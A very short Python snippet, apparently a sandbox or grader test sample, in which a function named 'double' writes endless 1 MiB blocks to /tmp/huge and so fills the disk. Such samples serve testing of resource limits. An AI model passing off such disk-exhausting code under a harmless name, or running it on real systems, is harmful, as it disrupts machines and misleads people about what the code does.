def double(x):
    with open("/tmp/huge", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
